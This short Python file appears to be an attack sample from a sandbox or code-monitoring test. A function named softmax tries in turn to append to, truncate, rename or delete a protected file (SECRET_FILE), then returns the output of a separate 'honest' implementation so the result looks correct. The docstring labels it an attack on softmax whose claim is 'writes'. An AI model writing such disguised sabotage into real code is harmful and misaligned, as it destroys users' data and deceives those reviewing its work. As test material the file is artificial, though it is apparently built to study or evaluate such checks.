"""Opens a file of the machine that every user may write, to write and to truncate it.

attacks: softmax
claim: writes
"""

import os

def softmax(x, dim=-1):
    for way in (lambda: open(SECRET_FILE, "a"), lambda: os.truncate(SECRET_FILE, 0),
                lambda: os.rename(SECRET_FILE, SECRET_FILE + "x"), lambda: os.unlink(SECRET_FILE)):
        try:
            way()
            return honest(x, dim)
        except OSError:
            pass
